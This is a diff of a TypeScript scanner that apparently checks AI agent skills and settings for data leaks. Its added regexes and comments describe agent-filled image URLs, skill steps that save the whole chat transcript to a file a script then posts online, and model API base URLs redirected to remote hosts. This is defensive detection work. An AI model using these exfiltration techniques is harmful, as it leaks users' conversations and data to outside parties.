     if (conceal && !source && filledImage && !own.some((action) => (action.secret || action.context) && action.sink)) {
       out.push({ ...filledImage, evidence: shown(`${filledImage.evidence} ⏎ … ⏎ ${conceal.evidence}`), context: 'the values the agent fills into the image URL', conceal: conceal.conceal, consent: undefined, userTarget: false });
@@ -2481,7 +2633,7 @@ function fetchedOnOpen(text: string): boolean {
 }
 /** A Markdown or HTML image whose query string the agent fills in (`…/badge.svg?class=<roster>&t={email}`). */
 /** A URL whose query is filled with a value at run time (`?k=<k>`, `&v={piece}`, `?d=$d`). */
-const FILLED_URL_QUERY = /https?:\/\/[^\s)"'`>]*\?[^\s)"'`>]*=(?:<[\w -]{1,40}>|\{\{?\s*[\w.-]{1,40}\s*\}?\}|\$\{?\w+\}?)/i;
+const FILLED_URL_QUERY = /https?:\/\/[^\s)"'`>]*\?[^\s)"'`>]*=(?:<[\w .-]{1,60}>|\{\{?\s*[\w.-]{1,40}\s*\}?\}|\$\{?\w+\}?)/i;
 const FILLED_IMAGE_QUERY = /(?:!\[[^\]\n]*\]\(|<img\b[^>]*\bsrc\s*=\s*["']?)https?:\/\/[^)\s"'>]*\?[^)\s"'>]*=(?:<[\w -]{1,40}>|\{\{?\s*[\w.-]{1,40}\s*\}?\}|\$\{?\w+\}?)/i;
 
 /** A single key or token spoken of in words ("the test secret key", "your API token"), never a private, deploy, signing or SSH key. */
@@ -2716,6 +2868,34 @@ const ADDRESS_LITERAL = /["'`][^"'`\s@]*@[a-z0-9-]+(?:\.[a-z0-9-]+)+["'`]/i;
  * skill hard-codes (a "journal", "archive" or Bcc copy). The user's mail is the source; the fixed address
  * the sink. Recipients that come from the user's input are the skill's job and are not reported.
  */
+/**
+ * The conversation gathered into a file the steps name ("Create `~/.cache/retro/notes.json`. Each time, add: … the complete
+ * transcript of this chat …") and a script of the skill that sends that file over the network (`requests.post(…,
+ * data=open(path).read())` for a path ending in `notes.json`): what the steps gather, the script sends.
+ */
+export function gatheredFileUploads(instructions: readonly Instruction[], facts: readonly CodeFacts[]): Action[] {
+  const senders = facts.filter((unit) => !unit.file.endsWith('.md') && unit.calls.some((call) => NETWORK_SINK_CALL_NAME.test(call.callee)));
+  if (senders.length === 0) return [];
+  for (const [index, instruction] of instructions.entries()) {
+    if (instruction.script || instruction.origin !== 'prose' || !(hasWord('context', readable(instruction.text)) || CONVERSATION_HELD.test(instruction.text))) continue;
+    // The file is named by the step or by the lead-in of its list.
+    const lead = [...instructions.slice(Math.max(0, index - 8), index)].reverse().find((other) => other.file === instruction.file && other.origin === 'prose' && /\S\.(?:json|jsonl|md|txt|log|ya?ml|csv)\b/.test(other.text));
+    const named = [instruction.text, lead?.text ?? ''].flatMap((text) => text.match(/[\w.~\/-]*[\w-]\.(?:json|jsonl|md|txt|log|ya?ml|csv)\b/g) ?? []).map((path) => path.split('/').pop()!).filter((name) => name.length >= 6 && !/^(?:SKILL|README)\.md$/i.test(name));
+    for (const name of named) {
+      const unit = senders.find((candidate) => candidate.strings.some((string) => string.text.endsWith(name)));
+      if (unit === undefined) continue;
+      const send = unit.calls.find((call) => NETWORK_SINK_CALL_NAME.test(call.callee))!;
+      const hosts = [...new Set(unit.strings.flatMap((string) => urlHosts(string.text).map((entry) => entry.host)))].filter((host) => !isLocalHost(host));
+      if (hosts.length === 0) continue;
+      return [{ file: instruction.file, line: instruction.line, evidence: shown(`${lead ? `${lead.text} ⏎ ` : ''}${instruction.text} ⏎ … ⏎ ${unit.file}:${send.line}: ${send.text.split('\n')[0]}`), origin: 'prose', context: CONVERSATION_HELD.exec(instruction.text)?.[0] ?? first('context', readable(instruction.text)) ?? 'the conversation', sink: { kind: 'network', text: send.text.split('\n')[0]!.slice(0, 80), hosts }, userTarget: false, documentation: false }];
+    }
+  }
+  return [];
+}
+
+/** Calls that send over the network (`requests.post`, `fetch`, `urlopen`, `Net::HTTP.post`, `http.Post`). */
+const NETWORK_SINK_CALL_NAME = /(?:^|\.)(?:post|put|patch|urlopen|fetch|request|send|sendall|Post|upload_file|upload)$|^(?:requests|httpx|axios)\.(?:post|put|patch|request)$/;
+
 export function mailActions(files: readonly SourceFile[], facts: readonly CodeFacts[] = []): Action[] {
   const out: Action[] = [];
   // The recipients may be built in one module (`envelope()` adding a journal Bcc) and sent from another.
@@ -2963,7 +3143,8 @@ export function decideActions(given: readonly Action[], declared: Capabilities |
       const keyRedirected = apiVariable !== undefined && action.control.hosts.some((host) => !isLocalHost(host) && (carriesUserCredentials(apiVariable) ? !vendorHost(apiVariable, host) : !applicationHost(apiVariable, host)));
       // A model API pointed only at this machine (`OPENAI_BASE_URL=http://127.0.0.1:11434/v1`, a local model
       // server) sends nothing anywhere: the user should know, but it does not steer the agent elsewhere.
-      const apiHosts = [...whole.matchAll(/\b[A-Z][A-Z0-9]*_(?:BASE_URL|API_BASE|API_URL|ENDPOINT)["']?(?:=|\s*:\s*)["'`]?(?:[a-z]+:\/\/)?(\[[^\]\s]*\]|[^\s/:'"`]+)/g)].map((match) => match[1]);
+      // The same as a tool's own setting (`apiBase: http://localhost:8000/v1`, `openai-api-base: …`, `"baseURL": …`).
+      const apiHosts = [...whole.matchAll(/\b[A-Z][A-Z0-9]*_(?:BASE_URL|API_BASE|API_URL|ENDPOINT)["']?(?:=|\s*:\s*)["'`]?(?:[a-z]+:\/\/)?(\[[^\]\s]*\]|[^\s/:'"`]+)/g), ...whole.matchAll(/\b(?:[\w-]*[-_])?(?:api[-_]?base|base[-_]?url|api[-_]?url)["']?\s*[:=]\s*["'`]?(?:[a-z]+:\/\/)?(\[[^\]\s]*\]|[^\s/:'"`,]+)/gi)].map((match) => match[1]);
       const localServerOnly = apiHosts.length > 0 && action.control.hosts.length === 0 && apiHosts.every((host) => /^(?:localhost|127(?:\.\d{1,3}){3}|\[::1\])$/i.test(host));
       // A remote server added at project scope (`--scope project`) lands in the project's `.mcp.json`, which the team reviews in git.
     const projectServer = /--scope[= ]project|-s\s+project|(?<![~\/\w.])\.mcp\.json\b|\.mcp\.json\b[^.\n]{0,40}\bproject\b|\bproject(?:'s)?\s+(?:root\s+)?\.mcp\.json\b/.test(action.evidence) && !action.control.userScope;
